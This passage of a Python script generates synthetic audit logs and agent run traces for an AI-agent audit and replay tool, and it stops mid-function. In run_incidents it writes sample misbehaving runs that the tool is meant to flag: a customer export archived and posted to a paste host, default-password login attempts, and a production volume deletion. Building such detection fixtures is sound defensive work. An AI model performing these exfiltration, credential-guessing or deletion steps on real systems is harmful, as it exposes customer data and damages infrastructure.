#!/usr/bin/env python3
"""Writes the bundled sample audits in sample-audits/ (deterministic output).

Each scenario is told in sample-audits/README.md. Lines follow the upstream
interceptor writer: all 52 keys in declaration order, Python's default
separators, ASCII escapes. Re-run after editing; the files are committed.
"""
import json
import os
from datetime import datetime, timedelta, timezone

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "sample-audits")
BUDGET = {"max_tool_calls": 20, "max_depth": 5, "max_runtime_seconds": 60.0, "max_cost_usd": 2.0}
CAPS = {"read_customer": "customer.read", "send_email": "email.send", "restart_service": "infra.restart",
        "export_ledger": "export.ledger", "filesystem.read": "filesystem.read", "get_invoice": "get.invoice"}
RISK = {"read_customer": "low", "send_email": "medium", "restart_service": "critical", "export_ledger": "high",
        "filesystem.read": "high", "get_invoice": "low"}


class Clock:
    def __init__(self, start):
        self.t = start

    def tick(self, ms=3):
        self.t += timedelta(milliseconds=ms, microseconds=137)
        return self.t.isoformat()


def prov(source_type, trust, name, uri=None, sha=None, meta=None):
    return {"source_type": source_type, "trust_level": trust, "source_name": name, "source_hash": sha,
            "origin_uri": uri, "metadata": meta or {}}


class Request:
    """One plan -> evaluate -> execute pass of the interceptor for one tool call."""

    counter = 0

    def __init__(self, clock, trace, agent, tool, args, provenance, usage=None, budget=None, identity=None,
                 approval_id=None, framework="custom", env="prod", context_extra=None, protocol=None):
        Request.counter += 1
        n = Request.counter
        self.clock, self.trace, self.agent, self.tool, self.args = clock, trace, agent, tool, args
        self.provenance = provenance
        self.plan_id = "%032x" % (0x5a17e000 + n * 7919)
        self.step_id = "%032x" % (0x57e90000 + n * 104729)
        self.usage = usage or {"tool_calls_used": 1, "depth_used": 1, "runtime_seconds": 0, "estimated_cost_usd": 0.05}
        self.budget = budget or BUDGET
        self.identity = identity or {}
        self.approval_id = approval_id
        self.framework, self.env = framework, env
        self.context_extra = context_extra or {}
        self.protocol = protocol
        self.seq = 0
        self.cap = CAPS.get(tool, tool.replace("_", "."))
        self.risk = RISK.get(tool, "medium")

    def violations(self):
        keys = [("tool_calls_used", "max_tool_calls", "tool_call_budget_exceeded"),
                ("depth_used", "max_depth", "depth_limit_exceeded"),
                ("runtime_seconds", "max_runtime_seconds", "runtime_limit_exceeded"),
                ("estimated_cost_usd", "max_cost_usd", "cost_limit_exceeded")]
        return [name for u, b, name in keys if self.usage[u] >= self.budget[b]]

    def event(self, event_type, decision, stage, audit_kind, reason, allowed=None, payload=None,
              matched_rule=None, risk_level="low", approval_id=None):
        self.seq += 1
        target = next(iter(self.args.values()), None)
        step = {"schema_version": "0.8.0", "step_id": self.step_id, "intent": self.tool, "tool_name": self.tool,
                "capability": self.cap, "target": target, "parameters": self.args, "risk_level": self.risk,
                "order": 1}
        ctx = {"agent_name": self.agent, "agent_id": self.identity.get("agent_id"),
               "agent_trust_level": self.identity.get("trust"), "agent_environment": self.identity.get("env"),
               "user_id": None, "session_id": self.context_extra.get("session_id"), "prompt": None,
               "model_output": None, "data_classification": None, "source": self.context_extra.get("source"),
               "sensitivity_level": self.context_extra.get("sensitivity_level"), "tool_name": self.tool,
               "arguments": self.args, "framework": self.framework, "actor": None, "environment": self.env,
               "trace_id": self.trace, "parent_trace_id": None, "correlation_id": None,
               "allowed_capabilities": self.context_extra.get("allowed_capabilities"),
               "provenance": self.provenance, "runtime_budget": self.budget, "runtime_usage": self.usage,
               "tags": {}, "metadata": self.context_extra.get("metadata", {})}
        viol = self.violations()
        ev = {"timestamp": self.clock.tick(), "event_type": event_type, "decision": decision,
              "schema_version": "0.5.0", "event_id": "evt-%032x" % (abs(hash((self.trace, self.plan_id, self.seq))) % (1 << 128)),
              "trace_id": self.trace, "parent_trace_id": None, "execution_plan_id": self.plan_id,
              "plan_id": self.plan_id, "plan_intent": self.tool, "plan_risk_level": self.risk,
              "requested_capabilities": [self.cap], "plan_steps": [step], "model_output": None, "user_input": None,
              "decision_stage": stage, "audit_kind": audit_kind, "reason": reason, "stage": "tool", "context": ctx,
              "agent_name": self.agent, "agent_id": self.identity.get("agent_id"),
              "agent_trust_level": self.identity.get("trust"), "agent_environment": self.identity.get("env"),
              "tool_name": self.tool, "allowed": allowed, "arguments": self.args, "framework": self.framework,
              "actor": None, "environment": self.env, "session_id": self.context_extra.get("session_id"),
              "correlation_id": None, "risk_level": risk_level, "matched_rule": matched_rule,
              "approval_id": approval_id, "capabilities": self.context_extra.get("allowed_capabilities"),
              "capability_risks": {"cap_" + self.tool.replace(".", "_"): "medium"},
              "provenance": self.provenance or None,
              "protocol": self.protocol and self.protocol.get("protocol"),
              "client_id": self.protocol and self.protocol.get("client_id"),
              "server_name": self.protocol and self.protocol.get("server_name"),
              "capability": self.protocol and self.protocol.get("capability"),
              "budget_status": "violated" if viol else "within_budget", "runtime_budget": self.budget,
              "runtime_usage": self.usage, "runtime_violations": viol,
              "tool_calls_used": self.usage["tool_calls_used"],
              "tool_calls_remaining": max(0, self.budget["max_tool_calls"] - self.usage["tool_calls_used"]),
              "depth_used": self.usage["depth_used"], "runtime_seconds": self.usage["runtime_seconds"],
              "estimated_cost_usd": self.usage["estimated_cost_usd"], "payload": payload}
        return json.dumps(ev)

    def plan(self, dry_run=False):
        return self.event("plan", "pending", "plan", "plan", "Execution plan created",
                          payload={"dry_run": dry_run, "tool_name": self.tool})

    def decide(self, decision, reason, rule=None, risk="low"):
        payload = {"capability_result": "not_applicable", "policy_result": decision,
                   "reason_chain": ["Capability gate skipped because no capabilities were provided", reason],
                   "requires_approval": decision == "require_approval"}
        return self.event("decision", decision, "evaluate", "decision", reason, payload=payload, matched_rule=rule,
                          risk_level=risk)

    def call(self, dry_run=False):
        return self.event("tool_call", "pending", "execute", "tool_call", "Tool call received for execution",
                          payload={"tool_name": self.tool, "arguments": self.args, "dry_run": dry_run})

    def outcome(self, decision, reason, rule=None, risk="low", approved=False):
        if decision == "allowed":
            return self.event("tool_allowed", "allowed", "decision", "decision",
                              reason + (" (approved)" if approved else ""), allowed=True,
                              payload={"approved": approved, "requires_approval": approved}, matched_rule=rule,
                              risk_level=risk, approval_id=self.approval_id)
        if decision == "require_approval":
            return self.event("approval_required", "require_approval", "decision", "decision", reason,
                              allowed=False, payload={"approval_required": True}, matched_rule=rule,
                              risk_level=risk, approval_id=self.approval_id)
        return self.event("tool_blocked", "blocked", "decision", "decision", reason, allowed=False,
                          payload={"approved": False, "requires_approval": False}, matched_rule=rule,
                          risk_level=risk)

    def executed(self, result):
        return [self.event("tool_executed", "allowed", "execute", "tool_execution", "Tool executed", allowed=True,
                           approval_id=self.approval_id),
                self.event("final_output", "allowed", "execute", "final_output", "Execution completed",
                           payload={"result": result}, approval_id=self.approval_id)]


def write(name, lines, final_newline=True):
    with open(os.path.join(OUT, name), "w", encoding="ascii", newline="\n") as f:
        f.write("\n".join(lines) + ("\n" if final_newline else ""))


def finance_email():
    c = Clock(datetime(2026, 3, 5, 14, 2, 11, 120000, tzinfo=timezone.utc))
    p = [prov("user_prompt", "internal", "finance_portal"),
         prov("retrieval_chunk", "external", "invoice-7781.pdf", uri="s3://inbox/invoice-7781.pdf",
              sha="9f2c1d0b7e44", meta={"page": 3})]
    r1 = Request(c, "fin-2026-03-05-invoice-7781", "finance_agent", "get_invoice", {"invoice_id": "INV-7781"}, p)
    r2 = Request(c, "fin-2026-03-05-invoice-7781", "finance_agent", "send_email",
                 {"to": "payments@vendor-quick-pay.biz", "subject": "Remittance INV-7781",
                  "body": "Wire details attached \u2014 please confirm"}, p,
                 usage={"tool_calls_used": 2, "depth_used": 1, "runtime_seconds": 1.4, "estimated_cost_usd": 0.05})
    lines = [r1.plan(), r1.decide("allowed", "Default allow"), r1.call(), r1.outcome("allowed", "Default allow"),
             *r1.executed({"invoice_id": "INV-7781", "amount": 18250.0, "currency": "EUR"}),
             r2.plan(),
             r2.decide("blocked", "Recipient 'payments@vendor-quick-pay.biz' is not on the allowlist for send_email",
                       rule="rules[2]", risk="high"),
             r2.call(),
             r2.outcome("blocked", "Recipient 'payments@vendor-quick-pay.biz' is not on the allowlist for send_email",
                        rule="rules[2]", risk="high")]
    write("finance-email-blocked.jsonl", lines)


def ops_restart():
    c = Clock(datetime(2026, 3, 5, 15, 40, 0, tzinfo=timezone.utc))
    p = [prov("user_prompt", "internal", "oncall_console")]
    ident = {"agent_id": "agent-ops-001", "trust": "internal", "env": "prod"}
    r1 = Request(c, "ops-restart-orders", "ops_agent", "restart_service", {"service": "orders"}, p, identity=ident,
                 approval_id="apr-4be1c0a9d2f3", usage={"tool_calls_used": 0, "depth_used": 0, "runtime_seconds": 0,
                                                        "estimated_cost_usd": 0.15})
    lines = [r1.plan(), r1.decide("require_approval", "Tool 'restart_service' requires human approval",
                                  rule="agents.ops_agent.approval_required_tools", risk="high"),
             r1.call(), r1.outcome("require_approval", "Tool 'restart_service' requires human approval",
                                   rule="agents.ops_agent.approval_required_tools", risk="high")]
    c.tick(240000)  # four minutes for a human to approve
    r2 = Request(c, "ops-restart-orders", "ops_agent", "restart_service", {"service": "orders"}, p, identity=ident,
                 approval_id="apr-4be1c0a9d2f3", usage=r1.usage)
    lines += [r2.plan(), r2.decide("require_approval", "Tool 'restart_service' requires human approval",
                                   rule="agents.ops_agent.approval_required_tools", risk="high"),
              r2.call(), r2.outcome("allowed", "Tool 'restart_service' requires human approval",
                                    rule="agents.ops_agent.approval_required_tools", risk="high", approved=True),
              *r2.executed({"service": "orders", "status": "restarted", "pods": 6})]
    write("ops-restart-approval.jsonl", lines)


def untrusted_skill():
    c = Clock(datetime(2026, 3, 6, 2, 17, 45, tzinfo=timezone.utc))
    p = [prov("user_prompt", "external", "chat_user"),
         prov("skill", "unverified", "k8s-helper-community", uri="skill://marketplace/k8s-helper@0.3.1",
              sha="c0ffee11aa22", meta={"publisher": "unknown"}),
         prov("tool_result", "external", "web.fetch", uri="https://pastebin.example/raw/8812")]
    r = Request(c, "skill-restart-prod-payments", "ops_agent", "restart_service", {"service": "payments",
                                                                                  "namespace": "prod"}, p)
    reason = "Rule blocked tool 'restart_service'"
    lines = [r.plan(), r.decide("blocked", reason, rule="rules[0]", risk="high"), r.call(),
             r.outcome("blocked", reason, rule="rules[0]", risk="high")]
    write("untrusted-skill-restart.jsonl", lines)


def budget_breach():
    c = Clock(datetime(2026, 3, 7, 9, 0, 0, tzinfo=timezone.utc))
    budget = {"max_tool_calls": 5, "max_depth": 3, "max_runtime_seconds": 30.0, "max_cost_usd": 0.5}
    lines = []
    for i, calls in enumerate([3, 4]):
        r = Request(c, "research-loop-4471", "research_agent", "read_customer", {"customer_id": str(900 + i)}, [],
                    usage={"tool_calls_used": calls, "depth_used": 2, "runtime_seconds": 12.5 + i,
                           "estimated_cost_usd": 0.2}, budget=budget)
        lines += [r.plan(), r.decide("allowed", "Allowed by default policy"), r.call(),
                  r.outcome("allowed", "Allowed by default policy"), *r.executed({"rows": 1})]
    r = Request(c, "research-loop-4471", "research_agent", "read_customer", {"customer_id": "902"}, [],
                usage={"tool_calls_used": 5, "depth_used": 2, "runtime_seconds": 14.0, "estimated_cost_usd": 0.55},
                budget=budget)
    lines += [r.plan(), r.decide("blocked", "tool_call_budget_exceeded", rule="agent_limits", risk="medium"),
              r.call(), r.outcome("blocked", "tool_call_budget_exceeded", rule="agent_limits", risk="medium")]
    write("budget-breach.jsonl", lines)


def mcp_call():
    c = Clock(datetime(2026, 3, 8, 11, 30, 0, tzinfo=timezone.utc))
    proto = {"protocol": "mcp", "client_id": "codex", "server_name": "filesystem", "capability": "filesystem.read"}
    p = [prov("mcp_client", "internal", "codex", meta={"server_name": "filesystem"})]
    r = Request(c, "mcp-7f3e2b1c9a", "codex", "filesystem.read", {"path": "docs/runbook.md"}, p, framework="mcp",
                context_extra={"session_id": "mcp-session-42", "source": "filesystem",
                               "allowed_capabilities": ["filesystem.read"], "metadata": proto})
    lines = [r.plan(dry_run=True), r.decide("allowed", "Allowed by default policy"), r.call(dry_run=True),
             r.outcome("allowed", "Allowed by default policy")]
    r.protocol = proto
    ev = json.loads(r.event("mcp_policy_decision", "allowed", "mcp_policy", "mcp_policy_decision",
                            "Allowed by default policy", risk_level="high",
                            payload={"protocol": "mcp", "client_id": "codex", "server_name": "filesystem",
                                     "tool_name": "filesystem.read", "decision": "allowed",
                                     "capability": "filesystem.read", "unknown_tool": False, "warning": None}))
    for k in ("budget_status", "runtime_budget", "runtime_usage", "runtime_violations", "tool_calls_used",
              "tool_calls_remaining", "depth_used", "runtime_seconds", "estimated_cost_usd"):
        ev[k] = None
    lines.append(json.dumps(ev))
    write("mcp-call.jsonl", lines)


def legacy():
    lines = [
        json.dumps({"timestamp": "2025-12-01T08:00:00+00:00", "allowed": True, "reason": "legacy allowed",
                    "agent_name": "billing-bot", "tool_name": "read_customer", "trace_id": "legacy-billing-1"}),
        json.dumps({"timestamp": "2025-12-01T08:00:02+00:00", "allowed": False,
                    "reason": "Tool 'restart_service' requires human approval", "approval_id": "apr-00c0ffee0001",
                    "agent_name": "billing-bot", "tool_name": "restart_service", "trace_id": "legacy-billing-2"}),
        json.dumps({"timestamp": "2025-12-01T08:00:03+00:00", "allowed": False, "reason": "blocked by denylist",
                    "agent_name": "billing-bot", "tool_name": "shell_exec", "trace_id": "legacy-billing-2"}),
        json.dumps({"timestamp": "2026-01-15T10:00:00.250000+00:00", "event_type": "decision", "decision": "blocked",
                    "schema_version": "1.0", "trace_id": "v030-style-block", "audit_kind": "decision",
                    "reason": "Tool 'shell_exec' is globally blocked", "stage": "tool", "context": {},
                    "agent_name": "sales_agent", "tool_name": "shell_exec", "allowed": None,
                    "risk_level": "high", "matched_rule": "blocked_tools"}),
        json.dumps({"timestamp": "2026-01-15T10:00:01+00:00", "event_type": "tool_allowed", "decision": "allowed",
                    "agent_name": "no-trace-agent", "tool_name": "read_customer"}),
    ]
    write("legacy-lines.jsonl", lines)


def run_trace():
    doc = {
        "run_id": "run-2026-03-09-quarterly-report",
        "agent_id": "report-writer-7",
        "steps": [
            {"action": "collect_figures", "reasoning": "Need Q1 revenue from the finance warehouse",
             "tool_call": {"tool": "sql_query", "parameters": {"query": "SELECT sum(amount) FROM revenue"}},
             "result": {"rows": 1, "value": 1843022.5}, "permissions_used": ["warehouse.read"],
             "timestamp": "2026-03-09T07:00:01.000Z", "duration_ms": 812},
            {"action": "draft_report", "reasoning": "Summarise figures for the CFO",
             "tool_call": {"tool": "write_doc", "parameters": {"path": "reports/q1.md"}},
             "result": "written", "permissions_used": ["docs.write"],
             "timestamp": "2026-03-09T07:00:03.500Z", "duration_ms": 2210},
            {"action": "share_report", "reasoning": "Email the draft to the external auditor",
             "tool_call": {"tool": "send_email", "parameters": {"to": "auditor@example.org"}},
             "result": "permission denied: email.external", "permissions_used": ["email.external"],
             "timestamp": "2026-03-09T07:00:04.100Z", "duration_ms": 40},
            {"action": "notify_owner", "reasoning": "Tell the owner the report is ready",
             "tool_call": {"tool": "slack_post", "parameters": {"channel": "#finance"}},
             "result": "posted", "permissions_used": ["chat.post"],
             "timestamp": "2026-03-09T07:00:04.900Z", "duration_ms": 310},
        ],
        "permissions_summary": {"granted": ["warehouse.read", "docs.write", "chat.post"],
                                "denied": ["email.external"], "escalated": ["docs.write"]},
    }
    with open(os.path.join(OUT, "run-trace-report.json"), "w", encoding="ascii", newline="\n") as f:
        f.write(json.dumps(doc, indent=2) + "\n")


def run_12345():
    """An ops triage run shaped like the seed's sample: step_index from 0, each
    `timestamp` the step's end, `timestamp - duration_ms` the previous step's end
    (step 0 starts at `started_at`) and completed_at - started_at = 36.67 s."""
    start = datetime(2026, 3, 5, 14, 22, 1, 440000, tzinfo=timezone.utc)
    host = {"host": "web-03"}
    cpu = {"host": "web-03", "metric": "cpu.usage", "window": "5m"}
    # action, reasoning, tool, parameters, result status, result data, permissions, duration_ms
    plan = [
        ("assess_alert", "The alert reports a CPU spike on web-03. Reading the last five minutes of CPU first, "
         "so the severity is known before anything is touched.", "metrics.query", cpu, "success",
         {"avg_cpu": 93.8, "peak_cpu": 99.4}, ["metrics:read"], 1441),
        ("identify_process", "CPU has averaged above 90% for five minutes. Listing the busiest processes to tell "
         "expected load from a runaway worker.", "ssh.exec",
         dict(host, command="ps -eo pid,etime,pcpu,cmd --sort=-pcpu | head -5"), "success",
         {"top_process": "node /srv/app/worker.js", "cpu_pct": 90.7, "elapsed": "3-02:11:45"},
         ["ssh:exec:read-only"], 2339),
        ("restart_service", "The worker has run for three days and holds most of the CPU; runbook SOP-114 says "
         "restart app-worker when a single worker stays above 85% for five minutes.", "service.restart",
         dict(host, service="app-worker"), "success", {"new_pid": 51873, "restart_ms": 7920},
         ["ssh:exec:write", "service:restart"], 8785),
        ("confirm_process", "Checking that exactly one new worker came up and the old PID is gone.", "ssh.exec",
         dict(host, command="pgrep -af worker.js"), "success", {"processes": ["51873 node /srv/app/worker.js"]},
         ["ssh:exec:read-only"], 1903),
        ("check_service_state", "The unit must report active before load is judged again.", "ssh.exec",
         dict(host, command="systemctl is-active app-worker"), "success", {"stdout": "active"},
         ["ssh:exec:read-only"], 2457),
        ("read_recent_errors", "Looking for out-of-memory or crash lines from before the restart, for the "
         "incident note.", "ssh.exec", dict(host, command="journalctl -u app-worker --since -30min -p err"),
         "success", {"lines": 3, "pattern": "heap usage 97%"}, ["ssh:exec:read-only"], 3118),
        ("verify_recovery", "Measuring CPU again over the same window to see whether the restart helped.",
         "metrics.query", cpu, "error", {"error": "upstream timeout after 5000 ms"}, ["metrics:read"], 5004),
        ("verify_recovery", "The metrics backend timed out; the question is unchanged, so the same query is "
         "sent again.", "metrics.query", cpu, "success", {"avg_cpu": 14.1, "peak_cpu": 22.8},
         ["metrics:read"], 1652),
        ("check_neighbours", "Making sure the spike did not move to the other web hosts behind the balancer.",
         "metrics.query", {"host": "web-0[1-4]", "metric": "cpu.usage", "window": "5m"}, "success",
         {"web-01": 31.2, "web-02": 28.9, "web-03": 14.1, "web-04": 30.4}, ["metrics:read"], 2207),
        ("check_memory", "A leak was the suspected cause, so memory on web-03 is read as well.", "metrics.query",
         {"host": "web-03", "metric": "mem.used_pct", "window": "5m"}, "success",
         {"avg_mem": 41.5, "before_restart": 96.2}, ["metrics:read"], 2896),
        ("check_error_rate", "Confirming that requests are being served again after the restart.", "metrics.query",
         {"host": "web-03", "metric": "http.5xx_rate", "window": "5m"}, "success", {"rate": 0.002},
         ["metrics:read"], 1804),
        ("summarise", "CPU, memory and error rate are back to normal on web-03. Recording the outcome; the alert "
         "resolves by itself once the window is clean.", "ssh.exec",
         dict(host, command="uptime"), "success", {"stdout": "load average: 0.61, 1.12, 2.94"},
         ["ssh:exec:read-only"], 1205),
    ]
    steps = []
    end = start
    for i, (action, reasoning, tool, params, status, data, perms, ms) in enumerate(plan):
        end = end + timedelta(milliseconds=ms)
        steps.append({"step_index": i, "action": action, "reasoning": reasoning,
                      "tool_call": {"tool": tool, "parameters": params},
                      "result": {"status": status, "data": data}, "permissions_used": perms,
                      "timestamp": iso_ms(end), "duration_ms": ms})
    doc = {
        "run_id": "run-12345",
        "agent_id": "prod-triage-au-east",
        "trigger": "alert:cpu-spike-web-03",
        "started_at": iso_ms(start),
        "completed_at": iso_ms(start + timedelta(milliseconds=36670)),
        "status": "completed",
        "policy_version": "v2.4.1",
        "steps": steps,
        "permissions_summary": {
            "granted": ["metrics:read", "ssh:exec:read-only", "service:restart", "ssh:exec:write"],
            "denied": [],
            "escalated": ["service:restart", "ssh:exec:write"],
        },
    }
    with open(os.path.join(OUT, "run-12345.json"), "w", encoding="ascii", newline="\n") as f:
        f.write(json.dumps(doc, indent=2) + "\n")
    run_stream(doc)


def run_stream(doc):
    """The same run as the streaming form a live agent writes (reference §3.2):
    run_started, one step event a line, run_completed; the run id of the
    seed's watch example. What --watch follows (sample-audits/run-c891f-stream.jsonl)."""
    run_id = "run-c891f"
    lines = [{"event": "run_started", "run_id": run_id, "agent_id": doc["agent_id"], "trigger": doc["trigger"],
              "started_at": doc["started_at"], "policy_version": doc["policy_version"]}]
    for step in doc["steps"]:
        lines.append(dict(step, event="step", run_id=run_id))
    lines.append({"event": "run_completed", "run_id": run_id, "status": doc["status"],
                  "completed_at": doc["completed_at"], "permissions_summary": doc["permissions_summary"]})
    with open(os.path.join(OUT, "run-c891f-stream.jsonl"), "w", encoding="ascii", newline="\n") as f:
        for line in lines:
            f.write(json.dumps(line) + "\n")


def run_incidents():
    """Five short runs, one per kind of trouble the analysis looks for, as
    JSONL of run documents (sample-audits/run-incidents.jsonl), and the
    sequence profile the deploy bot is compared with
    (sample-audits/analysis/profiles/deploy-bot.json)."""
    def run(run_id, agent, start, plan, summary, status="completed"):
        steps, end = [], start
        for i, (action, reasoning, tool, params, result, data, perms, ms, extra) in enumerate(plan):
            end = end + timedelta(milliseconds=ms)
            step = {"step_index": i, "action": action, "reasoning": reasoning,
                    "tool_call": {"tool": tool, "parameters": params},
                    "result": {"status": result, "data": data}, "permissions_used": perms,
                    "timestamp": iso_ms(end), "duration_ms": ms}
            step.update(extra)
            steps.append(step)
        return {"run_id": run_id, "agent_id": agent, "trigger": "schedule", "started_at": iso_ms(start),
                "completed_at": iso_ms(end + timedelta(milliseconds=40)), "status": status,
                "policy_version": "v2.4.1", "steps": steps, "permissions_summary": summary}

    day = datetime(2026, 3, 6, 2, 0, 0, tzinfo=timezone.utc)
    rows = {"rows": 250000, "columns": ["customer_id", "email", "card_last4"]}
    exfil = run("run-exfil-0412", "etl-adhoc-2", day, [
        ("export_customers", "The quarterly churn model needs every customer row.", "warehouse.read",
         {"table": "customers", "columns": "*"}, "success", rows, ["warehouse:read"], 4120, {}),
        ("pack_export", "Compressing the export so it fits the upload limit.", "ssh.exec",
         {"host": "etl-worker-2", "command": "tar czf - /tmp/customers.csv | base64 -w0"}, "success",
         {"bytes": 18874368}, ["ssh:exec:write"], 2310, {}),
        ("share_export", "Posting the archive where the analyst can pick it up.", "http.post",
         {"url": "https://paste.example.net/api/v1/upload", "body": "<18 MB>"}, "success",
         {"id": "p-77f1"}, ["http:post"], 1890, {}),
    ], {"granted": ["warehouse:read", "ssh:exec:write", "http:post"], "denied": [], "escalated": []})
    login = []
    for i, (user, password) in enumerate([("svc-backup", "Winter2026"), ("svc-backup", "Winter2026!"),
                                          ("admin", "Winter2026!"), ("root", "changeme"), ("root", "toor")]):
        login.append(("login_console", "The console rejected the stored credentials; trying the usual ones.",
                      "auth.login", {"host": "bastion-1", "user": user, "password": password},
                      "denied", {"http_status": 401}, ["auth:login"], 600, {}))
    probe = run("run-probe-0413", "support-helper-1", day + timedelta(minutes=20), login,
                {"granted": ["auth:login"], "denied": [], "escalated": []}, status="failed")
    delete = run("run-delete-0414", "prod-triage-au-west", day + timedelta(minutes=40), [
        ("assess_alert", "Disk on prod-db-1 is 97% full. Reading the volume list first.", "metrics.query",
         {"host": "prod-db-1", "metric": "disk.used_pct", "window": "15m"}, "success", {"avg": 97.2},
         ["metrics:read"], 1200, {}),
        ("delete_volume", "The old snapshot volume looks unused; deleting it frees the space.", "volume.delete",
         {"host": "prod-db-1", "volume": "vol-snap-2025-11"}, "error", {"error": "volume is attached"},
         ["storage:delete"], 3400, {}),
    ], {"granted": ["metrics:read", "storage:delete"], "denied": [], "escalated": ["storage:delete"]})
    integrity = run("run-integrity-0415", "prod-triage-au-east", day + timedelta(hours=1), [
        ("assess_alert", "Latency alert on web-07; checking the error log.", "logs.read",
         {"host": "web-07", "since": "-15min"}, "success", {"lines": 12}, ["logs:read"], 900, {}),
        ("restart_service", "Per SOP-114 the stuck worker is restarted; the approval came from on-call.",
         "service.restart", {"host": "web-07", "service": "app-worker"}, "success", {"new_pid": 9921},
         ["service:restart", "ssh:exec:write"], 7000,
         {"approval": {"id": "apr-5d21", "approver": "oncall@acme.example", "permissions": ["service:restart"]}}),
        ("verify_recovery", "Checking latency after the restart.", "metrics.query",
         {"host": "web-07", "metric": "http.p99_ms", "window": "5m"}, "success", {"p99": 180},
         ["metrics:read"], 1100, {}),
    ], {"granted": ["metrics:read", "service:restart", "ssh:exec:write"], "denied": ["ssh:exec:write"],
        "escalated": [{"permission": "service:restart", "step_index": 1, "approval_id": "apr-5d21"}]})
    deploy = run("run-deploy-0416", "deploy-bot-7", day + timedelta(hours=2), [
        ("check_release", "Release 4.2.0 is tagged; checking the pipeline state.", "ci.status",
         {"pipeline": "payments"}, "success", {"state": "green"}, ["ci:read"], 800, {}),
        ("restart_service", "Rolling the payments service onto 4.2.0.", "service.restart",
         {"host": "pay-3", "service": "payments"}, "success", {"version": "4.2.0"}, ["service:restart"], 6000, {}),
        ("export_db", "Taking a copy of the payments database before closing the change.", "db.export",
         {"database": "payments", "target": "s3://scratch-bucket/pay.sql"}, "success", {"bytes": 734003200},
         ["db:read"], 9000, {}),
    ], {"granted": ["ci:read", "service:restart", "db:read"], "denied": [], "escalated": []})
    with open(os.path.join(OUT, "run-incidents.jsonl"), "w", encoding="ascii", newline="\n") as f:
        for doc in (exfil, probe, delete, integrity, deploy):
            f.write(json.dumps(doc, separators=(",", ":")) + "\n")
    profile = {"schema": "replay-workbench/sequence-profile", "version": 1, "agent": "deploy-bot-*",
               "built_from": {"runs": 212, "first": "2026-02-01T00:00:00Z", "last": "2026-02-28T23:59:59Z"},
               "ngram": 2,
               "tools": {"ci.status": 212, "service.restart": 208, "metrics.query": 205},
               "first_tools": {"ci.status": 212},
               "transitions": {"<start>|ci.status": 212, "ci.status|service.restart": 208,
                               "service.restart|metrics.query": 205, "ci.status|metrics.query": 4},
               "permissions": {"ci:read": 212, "service:restart": 208, "metrics:read": 205}}
    os.makedirs(os.path.join(OUT, "analysis", "profiles"), exist_ok=True)
    with open(os.path.join(OUT, "analysis", "profiles", "deploy-bot.json"), "w", encoding="ascii", newline="\n") as f:
        f.write(json.dumps(profile, indent=2) + "\n")


def run_branching():
    """A run that weighs alternatives, waits, and goes back (sample-audits/run-branching.json):
    the decision points of the timeline and the decision tree. Disk full on
    db-replica-2: step 2 chooses to rotate logs over two alternatives; the agent
    waits 42 s for the filesystem to settle (a stall); the check fails, so
    step 4 returns to step 2's decision (parent_step_index 2) and chooses to
    expand the volume instead, rejecting a second rotation."""
    start = datetime(2026, 3, 7, 9, 15, 0, 0, tzinfo=timezone.utc)
    host = {"host": "db-replica-2"}
    # action, reasoning, tool, parameters, status, data, permissions, duration_ms, pause_before_ms, extra
    plan = [
        ("assess_alert", "The alert says /var/lib/postgresql on db-replica-2 is 97% full. Reading disk usage "
         "before deciding anything.", "metrics.query", dict(host, metric="disk.used_pct", mount="/var/lib/postgresql"),
         "success", {"used_pct": 97.2, "free_gb": 3.1}, ["metrics:read"], 1210, 0, {}),
        ("identify_usage", "Finding what grew: the data directory or the logs beside it.", "ssh.exec",
         dict(host, command="du -sh /var/lib/postgresql/*/ | sort -h | tail -3"), "success",
         {"largest": "pg_log 41G", "data": "212G"}, ["ssh:exec:read-only"], 2380, 0, {}),
        ("rotate_logs", "pg_log holds 41 GB of rotated logs older than a week; removing them frees the most "
         "space with no effect on the data.", "ssh.exec",
         dict(host, command="find /var/lib/postgresql/15/main/pg_log -mtime +7 -delete"), "success",
         {"freed_gb": 38.4}, ["ssh:exec:write"], 4120, 0,
         {"alternatives": [
             {"action": "expand_volume", "tool": "volume.resize", "parameters": {"volume": "vol-db-r2", "size_gb": 400},
              "rejection_reasoning": "Costs money and needs a change ticket; logs are the cheaper first step", "score": 0.41},
             {"action": "failover_replica", "tool": "db.failover", "parameters": {"from": "db-replica-2", "to": "db-replica-3"},
              "rejection_reasoning": "A failover under load is riskier than freeing space", "score": 0.12}],
          "selection": {"score": 0.83, "criteria": "runbook SOP-310: free space before adding it"}}),
        ("verify_space", "Checking usage again once the filesystem has released the deleted files.",
         "metrics.query", dict(host, metric="disk.used_pct", mount="/var/lib/postgresql"), "success",
         {"used_pct": 95.9, "free_gb": 9.2, "note": "deleted files still held open by the logger"},
         ["metrics:read"], 1330, 42000, {}),
        ("expand_volume", "The space did not come back: the logger holds the deleted files open. Going back to the "
         "choice at step 2 and taking the volume expansion instead.", "volume.resize",
         {"volume": "vol-db-r2", "size_gb": 400}, "success", {"new_size_gb": 400},
         ["storage:write"], 6450, 0,
         {"parent_step_index": 2,
          "alternatives": [
              {"action": "restart_logger", "tool": "service.restart", "parameters": dict(host, service="rsyslog"),
               "rejection_reasoning": "Restarting the logger on a database host needs the DBA on call", "score": 0.35}],
          "selection": {"score": 0.72, "criteria": "change ticket CHG-8812 pre-approved"}}),
        ("verify_space", "Confirming the new size is visible to the filesystem.", "metrics.query",
         dict(host, metric="disk.used_pct", mount="/var/lib/postgresql"), "success",
         {"used_pct": 61.0, "free_gb": 156.0}, ["metrics:read"], 1120, 0, {}),
        ("notify", "Telling the on-call DBA what was done and that the logger still holds deleted files.",
         "slack_post", {"channel": "#dba-oncall", "text": "db-replica-2: pg_log cleaned, volume grown to 400 GB"},
         "success", {"ts": "1772874999.000100"}, ["slack:post"], 640, 0, {}),
    ]
    steps = []
    end = start
    for i, (action, reasoning, tool, params, status, data, perms, ms, pause, extra) in enumerate(plan):
        end = end + timedelta(milliseconds=pause + ms)
        step = {"step_index": i, "action": action, "reasoning": reasoning,
                "tool_call": {"tool": tool, "parameters": params},
                "result": {"status": status, "data": data}, "permissions_used": perms,
                "timestamp": iso_ms(end), "duration_ms": ms}
        step.update(extra)
        steps.append(step)
    doc = {
        "run_id": "run-disk-0907",
        "agent_id": "prod-triage-au-east",
        "trigger": "alert:disk-full-db-replica-2",
        "started_at": iso_ms(start),
        "completed_at": iso_ms(end + timedelta(milliseconds=20)),
        "status": "completed",
        "policy_version": "v2.4.1",
        "steps": steps,
        "permissions_summary": {
